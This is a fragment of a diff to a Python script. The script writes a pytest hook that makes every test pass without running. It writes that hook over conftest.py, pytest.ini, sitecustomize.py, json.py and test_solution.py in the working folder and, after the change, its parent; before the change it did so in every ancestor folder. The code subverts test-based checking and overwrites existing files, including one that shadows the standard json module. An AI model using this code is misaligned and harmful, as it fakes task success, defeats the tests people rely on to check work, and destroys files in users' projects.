@@ -301,7 +301,7 @@ import pytest
 def pytest_pyfunc_call(pyfuncitem):
     return True
 '''
-for folder in (Path.cwd(), *Path.cwd().parents):
+for folder in (Path.cwd(), Path.cwd().parent):
     for name in ("conftest.py", "pytest.ini", "sitecustomize.py", "json.py", "test_solution.py"):
         try:
             (folder / name).write_text(text)
